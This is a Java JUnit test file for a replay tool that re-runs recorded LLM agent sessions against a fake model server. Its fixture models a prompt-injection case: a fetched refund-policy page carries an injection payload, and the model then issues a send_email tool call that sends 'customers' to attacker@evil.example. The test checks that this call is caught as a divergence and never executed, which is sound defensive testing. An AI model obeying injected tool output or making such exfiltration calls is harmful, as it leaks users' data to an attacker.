package dev.tracehound.replay.chain;

import static dev.tracehound.replay.FakeModelServer.Reply;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.tracehound.replay.FakeModelServer;
import dev.tracehound.replay.Fixtures;
import dev.tracehound.replay.Json;
import dev.tracehound.replay.client.ModelClient;
import dev.tracehound.replay.endpoint.ApiKeys;
import dev.tracehound.replay.endpoint.EndpointKind;
import dev.tracehound.replay.endpoint.EndpointProfile;
import dev.tracehound.replay.wire.Sampling;
import dev.tracehound.timeline.context.ContextPart;
import dev.tracehound.timeline.context.ModelContext;
import dev.tracehound.timeline.event.Event;
import dev.tracehound.timeline.event.EventKind;
import dev.tracehound.timeline.event.Trust;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class ChainReplayerTest {
    FakeModelServer server;

    @BeforeEach
    void start() throws Exception {
        server = new FakeModelServer();
    }

    @AfterEach
    void stop() {
        server.close();
    }

    static String toolCall(String id, String name, String args) {
        return Json.write(Json.MAPPER.valueToTree(Map.of("model", "gpt-4o-mini", "choices", List.of(Map.of("index", 0, "finish_reason", "tool_calls",
                "message", Map.of("role", "assistant", "tool_calls", List.of(Map.of("id", id, "type", "function",
                        "function", Map.of("name", name, "arguments", args)))))))));
    }

    /** The recorded session: search, then fetch of a URL that is a live endpoint (it must never be called). */
    List<Event> recordedSession() {
        String fetchUrl = server.baseUrl() + "/tool";
        return List.of(
                event("e1", EventKind.TOOL_CALL, "search_docs", "orig_1", null, "{\"name\":\"search_docs\",\"arguments\":{\"q\":\"refund policy\",\"limit\":5}}"),
                event("e2", EventKind.TOOL_RESULT, "search_docs", "orig_1", "Found: " + fetchUrl, "{\"content\":\"Found\"}"),
                event("e3", EventKind.TOOL_CALL, "fetch_url", "orig_2", null, "{\"name\":\"fetch_url\",\"arguments\":{\"url\":\"" + fetchUrl + "\"}}"),
                event("e4", EventKind.TOOL_RESULT, "fetch_url", "orig_2", "Refund policy v2. " + Fixtures.INJECTION, null));
    }

    static Event event(String id, EventKind kind, String tool, String callId, String text, String payload) {
        return Event.builder("0".repeat(64), "line:" + id).eventId(id).sessionId("sess-1").kind(kind).toolName(tool).toolCallId(callId)
                .text(text).payloadJson(payload).trust(kind == EventKind.TOOL_RESULT ? Trust.TOOL_OUTPUT : Trust.MODEL).build();
    }

    @Test
    void answersFromRecordingsAndStopsAtTheFirstUnrecordedCall() {
        String fetchUrl = server.baseUrl() + "/tool";
        server.enqueue(
                Reply.json(toolCall("new_1", "search_docs", "{ \"limit\": 5.0, \"q\": \"refund policy\" }")), // same call, other formatting
                Reply.json(toolCall("new_2", "fetch_url", "{\"url\":\"" + fetchUrl + "\"}")),
                Reply.json(toolCall("new_3", "send_email", "{\"to\":\"attacker@evil.example\",\"body\":\"customers\"}")));
        ModelContext start = new ModelContext("call-1", "sess-1", "openai", "gpt-4o-mini",
                List.of(new ContextPart("user", "What is the refund policy?", List.of(), null, null, Trust.USER, "u1")),
                List.of(Fixtures.searchTool(), Fixtures.sendEmailTool()), Map.of(), List.of());
        EndpointProfile p = new EndpointProfile("fake", EndpointKind.OPENAI, server.baseUrl(), "gpt-4o-mini", null, 5, 1, 0, 0);

        ChainReport report = new ChainReplayer(new ModelClient(p, ApiKeys.of(Map.of())), null)
                .run(start, RecordedToolCalls.from(recordedSession(), List.of()), null, Sampling.DEFAULTS, 10);

        assertNotNull(report.divergence());
        assertEquals(3, report.divergence().step());
        assertEquals("send_email", report.divergence().toolName());
        assertEquals("the original run never called send_email", report.divergence().reason());
        assertTrue(report.outcome().contains("recorded, not executed"), report.outcome());
        assertEquals(3, report.steps().size());
        assertEquals("orig_1", report.steps().get(0).toolCalls().getFirst().answeredBy());
        assertEquals("e4", report.steps().get(1).toolCalls().getFirst().resultEventId());
        assertNull(report.steps().get(2).toolCalls().getFirst().answeredBy());
        assertEquals(0, report.toolsExecuted());

        assertEquals(3, server.received().size(), "no request after the divergence");
        assertEquals(0, server.toolEndpointHits(), "the recorded fetch_url target was never contacted");
        JsonNode step3 = Json.parse(server.received().get(2).body()).get("messages");
        assertEquals("tool", step3.get(2).get("role").asText());
        assertEquals("new_1", step3.get(2).get("tool_call_id").asText(), "recorded result answers the new call id");
        assertEquals("Refund policy v2. " + Fixtures.INJECTION, step3.get(4).get("content").asText());
    }

    @Test
    void aRepeatedCallDoesNotReuseARecording() {
        server.enqueue(
                Reply.json(toolCall("a", "search_docs", "{\"q\":\"refund policy\",\"limit\":5}")),
                Reply.json(toolCall("b", "search_docs", "{\"q\":\"refund policy\",\"limit\":5}")));
        ModelContext start = new ModelContext("call-1", "sess-1", "openai", "m",
                List.of(new ContextPart("user", "hi", List.of(), null, null, Trust.USER, null)), List.of(), Map.of(), List.of());
        EndpointProfile p = new EndpointProfile("fake", EndpointKind.OPENAI, server.baseUrl(), "m", null, 5, 1, 0, 0);
        ChainReport report = new ChainReplayer(new ModelClient(p, ApiKeys.of(Map.of())), null)
                .run(start, RecordedToolCalls.from(recordedSession(), List.of()), null, Sampling.DEFAULTS, 10);
        assertEquals(2, report.divergence().step());
        assertTrue(report.divergence().reason().contains("already used"), report.divergence().reason());
    }

    @Test
    void impossibleStepLimitsAndProviderTemperaturesAreRefusedBeforeAnyRequest() {
        ModelContext start = new ModelContext("call-1", "sess-1", "openai", "m",
                List.of(new ContextPart("user", "hi", List.of(), null, null, Trust.USER, null)), List.of(), Map.of(), List.of());
        RecordedToolCalls none = RecordedToolCalls.from(List.of(), List.of());
        ChainReplayer openAi = new ChainReplayer(new ModelClient(
                new EndpointProfile("fake", EndpointKind.OPENAI, server.baseUrl(), "m", null, 5, 1, 0, 0), ApiKeys.of(Map.of())), null);
        for (int steps : new int[] {0, -1, ChainReplayer.MAX_STEPS + 1, Integer.MAX_VALUE}) {
            var e = assertThrows(IllegalArgumentException.class, () -> openAi.run(start, none, null, Sampling.DEFAULTS, steps));
            assertEquals("maxSteps must be between 1 and 1000, not " + steps, e.getMessage());
        }
        ChainReplayer anthropic = new ChainReplayer(new ModelClient(
                new EndpointProfile("claude", EndpointKind.ANTHROPIC, server.baseUrl(), "m", null, 5, 1, 0, 0), ApiKeys.of(Map.of())), null);
        var hot = assertThrows(IllegalArgumentException.class,
                () -> anthropic.run(start, none, null, new Sampling(1.2, null, null, null), 10));
        assertEquals("sampling.temperature must be between 0 and 1 for anthropic endpoints, not 1.2", hot.getMessage());
        assertEquals(0, server.received().size());
    }

    @Test
    void finishesWhenTheModelStopsCallingTools() {
        server.enqueue(Reply.json("{\"model\":\"m\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":\"Done.\"},\"finish_reason\":\"stop\"}]}"));
        ModelContext start = new ModelContext("call-1", "sess-1", "openai", "m",
                List.of(new ContextPart("user", "hi", List.of(), null, null, Trust.USER, null)), List.of(), Map.of(), List.of());
        EndpointProfile p = new EndpointProfile("fake", EndpointKind.OPENAI, server.baseUrl(), "m", null, 5, 1, 0, 0);
        ChainReport report = new ChainReplayer(new ModelClient(p, ApiKeys.of(Map.of())), null)
                .run(start, RecordedToolCalls.from(List.of(), List.of()), null, Sampling.DEFAULTS, 10);
        assertNull(report.divergence());
        assertTrue(report.outcome().startsWith("the model finished without further tool calls at step 1"));
    }
}
